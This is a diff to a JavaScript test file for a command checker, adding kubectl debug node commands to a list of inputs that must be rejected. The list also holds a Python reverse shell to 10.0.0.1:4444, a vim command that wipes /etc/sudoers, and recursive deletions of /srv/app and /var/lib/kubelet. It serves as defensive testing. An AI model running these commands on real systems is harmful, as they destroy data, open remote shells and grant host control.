@@ -131,6 +131,8 @@ describe('more spellings from the review', () => {
     "vim -es -c '%d' -c 'sav! /etc/sudoers' -c 'q!'",
     `pwsh -c '[System.IO.Directory]::Delete("/srv/app", $true)'`,
     "pwsh -c 'sal x Remove-Item; x /srv/app -Recurse -Force'",
+    'kubectl debug node/node-1 -it --image=alpine --profile=sysadmin',
+    'kubectl debug node/worker-3 -it --image=busybox -- chroot /host rm -rf /var/lib/kubelet',
     `python3 -c 'import socket,os,pty;s=socket.socket();s.connect_ex(("10.0.0.1",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'`,
   ])('%s is not allowed', async (command) => {
     const r = await check(command);
